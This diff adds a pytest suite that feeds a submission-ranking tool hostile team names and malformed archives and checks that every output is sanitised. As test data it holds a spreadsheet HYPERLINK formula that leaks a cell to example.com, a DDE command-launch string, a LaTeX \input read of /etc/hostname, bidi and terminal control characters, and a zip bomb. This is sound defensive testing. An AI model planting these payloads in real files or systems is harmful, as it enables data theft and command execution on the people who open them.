@@ -1,0 +1,206 @@
+"""rank_submissions.py with hostile names and archives: every name from a participant and every
+archive is untrusted. Each case gives clean output or one clear line, never a traceback."""
+
+from __future__ import annotations
+
+import csv
+import doctest
+import io
+import os
+import re
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT
+from test_rank_submissions import (DEV, codabench_member, compile_tables, overfull_points, read_table,
+                                   setup)  # noqa: F401 (the fixture)
+
+sys.path.insert(0, str(ROOT))
+import rank_submissions  # noqa: E402
+import ranking.downloads  # noqa: E402
+import ranking.names  # noqa: E402
+from ranking.downloads import MAX_MEMBER_RATIO  # noqa: E402
+
+HOSTILE_TEAMS = {
+    "480": '=HYPERLINK("http://example.com/?"&A1,"click")',
+    "481": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "482": "x\r\\input{/etc/hostname} % \r^^5cinput{^^2fetc^^2fhostname}",
+    "483": "evil\u202eexe.txt\x1b[31mred",
+    "484": "x",
+    "485": "x",
+    "486": "x (2)",
+    "487": "W" * 300,
+    "488": "+1 -1 \t tab",
+    "489": "名前 Müller Øre « » & $ # _ { } ~",
+}
+
+
+@pytest.mark.parametrize("module", [ranking.names, ranking.downloads])
+def test_docstring_examples(module):
+    failures, _ = doctest.testmod(module, optionflags=doctest.NORMALIZE_WHITESPACE)
+    assert failures == 0
+
+
+@pytest.fixture(scope="module")
+def hostile(setup, tmp_path_factory):  # noqa: F811
+    """A Codabench download whose ten participants have hostile names (from a --teams CSV), plus
+    a member that inflates 1000:1 and a member that is not a zip."""
+    base = tmp_path_factory.mktemp("hostile")
+    submissions = setup[1]
+    bulk = base / "bulk.zip"
+    with zipfile.ZipFile(bulk, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for identifier in HOSTILE_TEAMS:
+            archive.write(submissions / ("random_%d.zip" % (1 + int(identifier) % 3)),
+                          codabench_member(int(identifier), "owner%s" % identifier))
+        # 20 MB of zeros: about 20 KB deflated
+        archive.writestr(codabench_member(490, "bomber"), b"\0" * (20 * 1000 * 1000))
+        archive.writestr(codabench_member(491, "notzip"), b"this is not a zip file\n")
+        archive.writestr(codabench_member(492, "=cmd\u202e"), b"PK\x03\x04 truncated")
+    teams = base / "teams.csv"
+    with open(teams, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["submission", "team"])
+        for identifier, team in HOSTILE_TEAMS.items():
+            writer.writerow([identifier, team])
+    out = base / "out"
+    code = rank_submissions.main([str(bulk), "--ref", str(DEV), "--out", str(out), "--teams", str(teams),
+                                  "--resamples", "100", "--quiet"])
+    assert code == 0
+    return out
+
+
+def every_output(out: Path):
+    for name in sorted(os.listdir(out)):
+        if name.endswith((".csv", ".md", ".tex", ".html", ".svg")):
+            yield name, (out / name).read_text(encoding="utf-8")
+
+
+def test_no_formula_in_any_csv_cell(hostile):
+    for name, text in every_output(hostile):
+        if not name.endswith(".csv"):
+            continue
+        for row in csv.reader(io.StringIO(text.split("\n", 1)[1])):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+                assert not cell.startswith("-") or re.fullmatch(r"-[0-9.e+-]+", cell), (name, cell)
+    rows = read_table(hostile / "t6_st1.csv")
+    teams = {row["team"] for row in rows}
+    assert "'" + '=HYPERLINK("http://example.com/?"&A1,"click")' in teams
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in teams
+
+
+def test_no_control_or_bidi_character_in_any_output(hostile):
+    for name, text in every_output(hostile):
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text), name
+        assert "\r" not in text, name
+    md = (hostile / "results.md").read_text(encoding="utf-8")
+    assert "\\\\u202e" in md  # shown escaped, visibly
+
+
+def test_latex_injection_is_inert_and_the_tables_compile(hostile, tmp_path):
+    tex = (hostile / "results.tex").read_text(encoding="utf-8")
+    assert "\\input" not in tex and "^^" not in tex
+    for line in tex.split("\n"):
+        if line.startswith("%"):
+            assert "owner" not in line and "HYPERLINK" not in line  # no participant's text in comments
+    log = compile_tables(hostile / "results.tex", tmp_path)
+    assert all(points <= 5 for points in overfull_points(log)), overfull_points(log)
+
+
+def test_names_are_unique(hostile):
+    rows = read_table(hostile / "t6_st1.csv")
+    names = [row["name"] for row in rows]
+    assert len(names) == len(set(names)) == len(HOSTILE_TEAMS)
+    # two participants named "x" by --teams, and one named "x (2)"
+    assert {"x [484]", "x [485]", "x (2)"} <= set(names)
+    assert len({row["team"] for row in rows}) == len(HOSTILE_TEAMS) - 1
+
+
+def test_hostile_archives_name_the_member(hostile):
+    problems = {row["submission"]: row["problem"] for row in read_table(hostile / "problems.csv")}
+    assert set(problems) == {"490", "491", "492"}
+    assert "inflates" in problems["490"] and ("at most %d times" % MAX_MEMBER_RATIO) in problems["490"]
+    for identifier in ("490", "491", "492"):
+        assert "_PhaseId77_" in problems[identifier]  # the member's own name
+        assert "/tmp" not in problems[identifier] and "rank-submissions-" not in problems[identifier]
+    assert "not a zip file" in problems["491"]
+
+
+def _one_line_exit(argv, capsys) -> str:
+    with pytest.raises(SystemExit) as raised:
+        rank_submissions.main(argv)
+    message = str(raised.value.code)
+    assert message.startswith("rank_submissions: ") and "\n" not in message and "Traceback" not in message
+    return message
+
+
+def test_missing_teams_file_is_one_line_before_any_scoring(setup, tmp_path, capsys):  # noqa: F811
+    message = _one_line_exit([str(setup[1]), "--ref", str(DEV), "--out", str(tmp_path / "o"), "--teams",
+                              str(tmp_path / "missing.csv")], capsys)
+    assert "--teams" in message and "missing.csv" in message and "No such file" in message
+    assert "scoring" not in capsys.readouterr().err
+
+
+def test_out_under_a_file_is_one_line_before_any_scoring(setup, tmp_path, capsys):  # noqa: F811
+    (tmp_path / "file").write_text("x", encoding="utf-8")
+    message = _one_line_exit([str(setup[1]), "--ref", str(DEV), "--out", str(tmp_path / "file" / "out")], capsys)
+    assert "--out" in message
+    assert "scoring" not in capsys.readouterr().err
+
+
+def test_a_cp1252_teams_csv_is_read_with_a_warning(setup, tmp_path, capsys):  # noqa: F811
+    teams = tmp_path / "teams.csv"
+    teams.write_bytes("submission;x\nrandom_1,Müller – “Team”\n".replace(";", ",").encode("cp1252"))
+    out = tmp_path / "out"
+    assert rank_submissions.main([str(setup[1] / "random_1.zip"), "--ref", str(DEV), "--out", str(out),
+                                  "--teams", str(teams), "--resamples", "10", "--quiet"]) == 0
+    err = capsys.readouterr().err
+    assert "not UTF-8: read as Windows-1252" in err and "Traceback" not in err
+    assert read_table(out / "t6_st1.csv")[0]["team"] == "Müller – “Team”"
+
+
+def test_a_teams_csv_with_a_bom(setup, tmp_path):  # noqa: F811
+    teams = tmp_path / "teams.csv"
+    teams.write_bytes("\ufeffsubmission,team\nrandom_1,Équipe\n".encode("utf-8"))
+    out = tmp_path / "out"
+    assert rank_submissions.main([str(setup[1] / "random_1.zip"), "--ref", str(DEV), "--out", str(out),
+                                  "--teams", str(teams), "--resamples", "10", "--quiet"]) == 0
+    assert read_table(out / "t6_st1.csv")[0]["team"] == "Équipe"
+
+
+# --- which submission is a team's row (no scoring needed) ---------------------------------------------
+
+def _scored(identifier: int, owner: str, value=None, problem: str = ""):
+    from ranking.downloads import Entry
+    from ranking.scoring import Scored
+
+    scored = Scored(Entry(str(identifier), owner, "bulk.zip", member="m%d" % identifier, platform_id=str(identifier),
+                          owner=owner, order=identifier))
+    if value is not None:
+        scored.scores["t6_st1"] = {"t6_st1_f1_micro": value}
+    if problem:
+        scored.problems.append(("t6_st1", problem))
+    return scored
+
+
+def test_selection_last_best_all_and_the_export():
+    from ranking.selection import select
+
+    # ids compared as numbers (a bulk name's date has no hour; 99 < 100), failures skipped
+    runs = [_scored(99, "a_b", 0.5), _scored(100, "a_b", 0.4), _scored(101, "a_b", problem="refused"),
+            _scored(7, "c", 0.4), _scored(8, "c", 0.4), _scored(9, "c")]
+    primary = ("t6_st1", "t6_st1_f1_micro", True)
+    ranked, skipped, failed = select(runs, "last", primary)
+    assert [s.entry.submission for s in ranked] == ["100", "9"]
+    assert [s.entry.submission for s, _ in skipped] == ["99", "7", "8"]
+    assert [s.entry.submission for s in failed] == ["101"]
+    ranked, _, _ = select(runs, "best", primary)  # a tie goes to the later; no score ranks below any
+    assert [s.entry.submission for s in ranked] == ["99", "8"]
+    ranked, _, _ = select(runs, "all", primary)
+    assert len(ranked) == 5
+    ranked, skipped, failed = select(runs, "last", primary, on_board={"a_b-99", "c-8", "a_b-101"})
+    assert [s.entry.submission for s in ranked] == ["99", "8"] and len(skipped) == 3
+    assert failed[0].problems[-1][1].startswith("on the platform's leaderboard")
